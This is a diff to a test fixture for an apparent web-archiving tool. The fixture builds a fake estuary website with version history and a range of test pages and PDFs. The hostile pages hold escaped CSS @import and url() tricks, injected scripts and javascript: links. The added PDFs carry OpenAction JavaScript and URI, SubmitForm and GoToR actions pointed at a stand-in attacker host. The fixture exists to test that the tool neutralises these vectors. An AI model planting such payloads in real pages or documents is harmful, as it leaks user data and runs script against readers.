@@ -1,15 +1,25 @@
 """A folder with all a reader can meet in it: versions, files, twins, a bare page, hostile pages."""
 
 import sqlite3
+from itertools import pairwise
 from pathlib import Path
+from urllib.parse import urlsplit
 
 from grown_folder import Served, grow, page
+from whimbrel.change.decide import decide
+from whimbrel.change.version import read_version
+from whimbrel.flows.packing import packed_spots
 
 HOST = "http://a.example"
 TIDES, BARE, PLAIN, HOSTILE, HUGE = (f"{HOST}/{name}" for name in ("tides", "bare", "plain.txt", "hostile", "huge"))
-PAPER = f"{HOST}/paper.pdf"
+PAPER, NAMED, SCAN = f"{HOST}/paper.pdf", f"{HOST}/named.pdf", f"{HOST}/scan.pdf"
 STRANGE = f"{HOST}/strange?a=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"
 DAY = 86_400.0
+MIDDLES = (
+    "<p>High water is at nine.</p>",
+    "<p>High water is at ten today.</p>",
+    "<p>High water is at ten today.</p><p>A new flock of forty godwits has come down from the north.</p>",
+)
 
 PICTURE = b"""<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><script>parent.owned = 99</script>
 <rect width="40" height="20" fill="#0b6157"/></svg>"""
@@ -36,14 +46,17 @@ def hostile(evil: str) -> Served:
         <base href="{evil}/base/"><meta http-equiv="refresh" content="0">
         <link rel="stylesheet" href="{evil}/sheet.css"><link rel="prefetch" href="{evil}/prefetch">
         <link rel="dns-prefetch" href="{evil}"><link rel="preload" as="image" href="{evil}/preload">
-        <style>@import url("{evil}/import.css"); @\\69mport "{evil}/escaped.css";
+        <style>@import url("{evil}/import.css"); @\\69mport "{evil}/escaped.css"; @import/**/"{evil}/beside.css";
+        @import "data:text/css,@import '{evil}/within.css'";
         body {{ background: url({evil}/background); }} p {{ background: u\\72l({evil}/escaped-background); }}
         input[value^="s"] {{ background: url({evil}/leak?s); }} @font-face {{ font-family: x; src: url({evil}/font); }}
-        p {{ font-family: x; list-style: image-set("{evil}/image-set" 1x); }}</style>
+        p {{ font-family: x; list-style: image-set("{evil}/image-set" 1x); --u: "{evil}/said"; }}
+        form {{ background: image-set(var(--u) 1x); }} textarea {{ background: \\75\\72 l({evil}/twice); }}</style>
         <script>window.owned = 1; parent.owned = 1; fetch("{evil}/script");</script>
         <script src="{evil}/script.js"></script></head>
         <body onload="parent.owned = 2" background="{evil}/body">
-        <p>A hostile page about estuaries, with words enough that it is kept and shown for what it says.</p>
+        <p style="background:u\\72l({evil}/attribute)">A hostile page about estuaries,
+        with words enough that it is kept and shown for what it says.</p>
         <img src="x" onerror="parent.owned = 3; fetch('{evil}/onerror')"><img src="{evil}/picture.png">
         <img srcset="{evil}/srcset.png 2x"><picture><source srcset="{evil}/source.png"><img alt="p"></picture>
         <a id="js" href="javascript:parent.owned=4">a script link</a> <a id="out" href="{evil}/link">a link out</a>
@@ -69,36 +82,57 @@ def huge() -> Served:
     return Served(f"<!doctype html><title>A very long page</title>{rows}{'<i>' * 3000}deep".encode())
 
 
-def paper() -> Served:
-    """One page of PDF."""
-    drawn = b"BT /F1 24 Tf 72 700 Td (Counting waders at high water) Tj ET"
+def paper(words: bytes = b"Counting waders at high water", *, title: bytes = b"", opening: bytes = b"") -> Served:
+    """One page of PDF; `opening` is what it does when it is opened."""
+    drawn = b"BT /F1 24 Tf 72 700 Td (%b) Tj ET" % words
     parts = [
-        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Catalog /Pages 2 0 R %b >>" % (b"/OpenAction " + opening if opening else b""),
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
         b" /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
         b"<< /Length %d >> stream\n%b\nendstream" % (len(drawn), drawn),
+        b"<< /Title (%b) >>" % title,
     ]
     body, places = b"%PDF-1.4\n", []
     for number, part in enumerate(parts, 1):
         places.append(len(body))
         body += b"%d 0 obj\n%b\nendobj\n" % (number, part)
     table = b"".join(b"%010d 00000 n \n" % place for place in places)
-    end = b"xref\n0 5\n0000000000 65535 f \n%btrailer << /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (
+    end = b"xref\n0 6\n0000000000 65535 f \n%btrailer << /Size 6 /Root 1 0 R /Info 5 0 R >>\nstartxref\n%d\n%%%%EOF" % (
         table,
         len(body),
     )
     return Served(body + end, mime="application/pdf")
 
 
+def hostile_papers(evil: str) -> dict[str, Served]:
+    """What a PDF may try when it is opened."""
+    script = f"app.launchURL('{evil}/launch', true); this.submitForm('{evil}/form'); app.alert('a PDF speaks')"
+    deeds = {
+        "script": f"<< /S /JavaScript /JS ({script}) >>",  # brackets that come in pairs need no escape
+        "link": f"<< /S /URI /URI ({evil}/uri) >>",
+        "sent": f"<< /S /SubmitForm /F << /FS /URL /F ({evil}/sent) >> /Flags 4 >>",
+        "other": f"<< /S /GoToR /F << /FS /URL /F ({evil}/other.pdf) >> /D [0 /Fit] >>",
+        "markup": "<< /S /URI /URI (javascript:parent.owned=1) >>",
+    }
+    return {
+        f"{HOST}/hostile-{name}.pdf": paper(b"A hostile paper", opening=deed.encode()) for name, deed in deeds.items()
+    }
+
+
 def world(evil: str) -> dict[str, Served]:
     same = page("two pages that are the very same to the last byte")
     links = ["/tides", "/bare", "/plain.txt", "/hostile", "/huge", "/twin/1", "/twin/2", "/gone", "/paper.pdf",
              "/strange?a=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"]  # fmt: skip
+    links += [urlsplit(url).path for url in hostile_papers(evil)]
     start = page("the start page of the estuary", links, title="The <estuary> & its birds")
+    start += (
+        b"<a href=/scan.pdf>Annual survey of the mudflat</a> <a href=/scan.pdf>PDF</a> <a href=/two%20scans.pdf>pdf</a>"
+    )
+    start += b"<a href=/fake.pdf>no paper</a> <a href=/named.pdf>a paper</a>"
     return {
         f"{HOST}/": Served(start),
-        TIDES: tides("<p>High water is at nine.</p>"),
+        TIDES: tides(MIDDLES[0]),
         f"{HOST}/look.css": Served(b"@import 'more.css'; h1 { color: rgb(1, 97, 87) }", mime="text/css"),
         f"{HOST}/more.css": Served(
             b"@font-face { font-family: f; src: url(letters.woff2) } h1 { font-family: f; background: url(gone.png) }",
@@ -115,6 +149,11 @@ def world(evil: str) -> dict[str, Served]:
         HOSTILE: hostile(evil),
         HUGE: huge(),
         PAPER: paper(),
+        NAMED: paper(b"Page one", title=b"A census of waders"),
+        SCAN: paper(b"", title=b"scan0001.pdf"),
+        f"{HOST}/two%20scans.pdf": paper(b" "),
+        f"{HOST}/fake.pdf": Served(b"<script>parent.owned = 1</script><p>words of no paper", mime="application/pdf"),
+        **hostile_papers(evil),
         f"{HOST}/twin/1": Served(same),
         f"{HOST}/twin/2": Served(same),
         STRANGE: Served(page("a strange address", title="<script>alert('title')</script>")),
@@ -125,10 +164,7 @@ def fill(folder: Path, evil: str, now: float) -> None:
     """Three versions of the tides, a day apart."""
     there = world(evil)
     grow(folder, there)
-    for number, middle in enumerate((
-        "<p>High water is at ten today.</p>",
-        "<p>High water is at ten today.</p><p>A new flock of forty godwits has come down from the north.</p>",
-    )):  # fmt: skip
+    for number, middle in enumerate(MIDDLES[1:]):
         there[TIDES] = tides(middle)
         _due_again(folder, TIDES, 1_000 + number)
         grow(folder, there)
@@ -152,6 +188,16 @@ def _dated(folder: Path, now: float) -> None:
         database.executemany(
             "UPDATE version SET at = ? WHERE id = ?",
             [(now - (2 - place) * DAY - 600, number) for place, (number,) in enumerate(versions)],
+        )
+        read = [read_version(tides(middle).body, "text/html; charset=utf-8") for middle in MIDDLES]
+        database.execute("DELETE FROM change")  # the clock stood still while the versions came
+        database.executemany(
+            "INSERT INTO change (url, at, what, kinds, amount, before, after, details)"
+            " SELECT v.url, v.at, 'changed', 'content', 0.2, ?, v.id, ? FROM version v WHERE v.id = ?",
+            [
+                (before, packed_spots(decide(old, new)), after)
+                for ((before,), (after,)), (old, new) in zip(pairwise(versions), pairwise(read), strict=True)
+            ],
         )
         database.execute("UPDATE url SET visited_at = ? WHERE visited_at IS NOT NULL", (now - 600,))
     database.close()
